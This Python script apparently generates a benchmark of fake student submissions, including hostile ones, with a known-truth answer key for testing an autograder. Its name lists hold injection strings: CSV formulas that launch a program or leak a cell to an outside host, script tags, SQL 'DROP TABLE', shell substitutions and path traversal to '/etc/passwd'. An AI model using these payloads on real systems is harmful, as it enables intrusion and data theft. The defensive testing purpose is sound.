"""Write a made-up class of honest, borderline, broken and hostile works, with the known truth about each.

    python benchmarks/make_class.py DIR --students 200 --seed 1

writes ``DIR/class`` (one folder, file, notebook or archive a student), ``DIR/LIST.csv`` (the same works under
the students' real names, with instants, and some earlier works of ``DIR/earlier``), ``DIR/assignment.toml``
(the shipped assignment, with limits that suit a class) and ``DIR/truth.json``. Equal arguments give
equal files. A hostile work is only ever to be run in the sandbox.
"""

import argparse
import csv
import json
import sys
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random

import class_broken
import class_hostile
from class_ideas import EDGES, borderline, honest, honest_dilated
from class_packing import Work, pack

ASSIGNMENT = Path(__file__).parents[1] / "checks" / "assignments" / "cifar10-compact-cnn.toml"
LIMITS = {"intake_s": 20, "intake_cpu_s": 8, "intake_memory_mib": 2048}
"""What takes a second may take twenty; the shipped assignment waits 120 s for who sleeps."""
SHARES = {"dilated": 0.08, "borderline": 0.21, "broken": 0.18, "hostile": 0.21}
"""Of every hundred works; the rest is honest. With 200 students every idea is there."""
DEADLINE = datetime(2026, 3, 1, 23, 59, tzinfo=UTC)

FIRST = "Ada Björn Chloé Đức Elif Grace Hồng José Kübra Łukasz Noor Ömer Priya Renée Søren Václav Yūki Zoë"
LAST = (
    "Adeyemi Bauer Chen D'Angelo Fernández García-López Haddad Ito Jensen Lê Müller Nguyễn O'Brien Singh Zhou"
)
BAD_NAMES = (
    "=1+1", "=cmd|' C calc'!A0", "+SUM(A1)", "-2+3", "@SUM(1+1)", "\tTab", "new\nline", '=HYPERLINK("x")',
    "<script>alert(1)<", "<b>bold", "a,b;c", 'say "hi"', "'quoted'", "\x1b[31mred\x1b[0m", "bell\x07",
    "\u202eright to left", "zero\u200bwidth", "%s%n%x", "{0.__class__}", "{{7*7}}", "$(touch x)", "`touch x`",
    "--help", "-rf", "CON", "名前", "🎓🎓", "|pipe|", "*star*", "back\\slash", "'); DROP TABLE grade;--",
    "x" * 200, "Ada ADA", "ada ADA",
)  # fmt: skip
"""Names that a file may have; the list leaves out what of them cannot be printed."""
WORSE_NAMES = (
    "../../escaped", "/etc/passwd", "a/b", "..", ".", ".hidden", "</td><script>alert(1)</script>",
    '=HYPERLINK("http://x.y/?"&A1,"z")', "x" * 1000,
)  # fmt: skip
"""Names that only the list can say."""


@dataclass(frozen=True)
class Student:
    """A student: the name, what the work's file is called, the work, and when it was handed in."""

    name: str
    file: str
    work: Work
    submitted_at: datetime


def make_class(folder: Path, number: int, seed: int, shares: Mapping[str, float] = SHARES) -> list[Student]:
    """Write a class of `number` students into a new folder; `shares` of its works are not honest."""
    rng = Random(f"class {seed}")
    (folder / "class").mkdir(parents=True)
    (folder / "earlier").mkdir()
    names = list(_names(rng, number))
    students, rows = [], []
    for index, ((name, file), work) in enumerate(zip(names, _works(rng, number, shares), strict=True)):
        instant = DEADLINE + timedelta(minutes=rng.randint(-20_000, 1_000))
        path = pack(work, folder / "class" / file, rng)
        students.append(Student(name, path.relative_to(folder).as_posix(), work, instant))
        rows.append((name, path.relative_to(folder).as_posix(), instant.isoformat()))
        if index % 20 == 10:
            before = pack(honest(rng), folder / "earlier" / f"{index}", rng).relative_to(folder).as_posix()
            rows.append((name, before, (instant - timedelta(days=2)).isoformat()))
    rng.shuffle(rows)
    _write_list(folder / "LIST.csv", rows)
    _write_assignment(folder / "assignment.toml")
    truth = [_truth(student) for student in students]
    (folder / "truth.json").write_text(json.dumps(truth, indent=1) + "\n")
    return students


def main() -> None:
    """Read the arguments, and write the class."""
    parser = argparse.ArgumentParser(
        description="Write a made-up class with the known truth about each work."
    )
    parser.add_argument("folder", type=Path, help="a folder that is not there yet, or empty")
    parser.add_argument("--students", type=int, default=200)
    parser.add_argument("--seed", type=int, default=1)
    given = parser.parse_args()
    if given.folder.exists() and any(given.folder.iterdir()):
        sys.exit(f"{given.folder}: expected a folder that is not there yet, or empty. Name another one.")
    students = make_class(given.folder, given.students, given.seed)
    kinds = [student.work.kind for student in students]
    counts = ", ".join(f"{kinds.count(kind)} {kind}" for kind in dict.fromkeys(sorted(kinds)))
    print(f"{given.folder}: {len(students)} works: {counts}")


# Private functions


def _works(rng: Random, number: int, shares: Mapping[str, float]) -> list[Work]:
    """Choose the works: of each kind its share, every idea once before one comes again."""
    counts = Counter({kind: round(share * number) for kind, share in shares.items()})
    works = [honest_dilated(rng) for _ in range(counts["dilated"])]
    works += [borderline(rng, idea) for idea in _dealt(rng, EDGES, counts["borderline"])]
    works += [class_broken.broken(rng, idea) for idea in _dealt(rng, class_broken.IDEAS, counts["broken"])]
    works += [
        class_hostile.hostile(rng, idea) for idea in _dealt(rng, class_hostile.IDEAS, counts["hostile"])
    ]
    works += [honest(rng) for _ in range(number - len(works))]
    rng.shuffle(works)
    return works


def _dealt(rng: Random, ideas: Sequence[str], number: int) -> Iterator[str]:
    for first in range(0, number, len(ideas)):
        yield from rng.sample(sorted(ideas), min(len(ideas), number - first))


def _names(rng: Random, number: int) -> Iterator[tuple[str, str]]:
    """Name the students, and their files: one in four has a name that is an attack."""
    ordinary = [f"{first} {last}" for first in FIRST.split() for last in LAST.split()]
    rng.shuffle(ordinary)
    bad = [
        *(("".join(filter(str.isprintable, name)), name) for name in BAD_NAMES),
        *((name, f"listed {i}") for i, name in enumerate(WORSE_NAMES)),
    ]
    rng.shuffle(bad)
    for index in range(number):
        if index % 4 == 2 and bad:
            yield bad.pop()
        else:
            name = ordinary[index % len(ordinary)] + (f" {index}" if index >= len(ordinary) else "")
            yield name, name


def _write_list(path: Path, rows: Sequence[tuple[str, str, str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(("student", "submission", "submitted_at"))
        writer.writerows(rows)


def _write_assignment(path: Path) -> None:
    """Write the shipped assignment with other limits."""
    text = ASSIGNMENT.read_text()
    for name, limit in LIMITS.items():
        lines = [line for line in text.splitlines() if line.startswith(f"{name} = ")]
        assert len(lines) == 1
        text = text.replace(lines[0], f"{name} = {limit}")
    path.write_text(text)


def _truth(student: Student) -> dict[str, object]:
    work = student.work
    return {
        "student": student.name,
        "path": student.file,
        "submitted_at": student.submitted_at.isoformat(),
        "kind": work.kind,
        "idea": work.idea,
        "verdict": work.verdict,
        "failed": list(work.failed),
        "cause": work.cause,
        "says": work.says,
        "parameters": work.parameters,
        "receptive_field_px": work.field_px,
    }


if __name__ == "__main__":
    main()
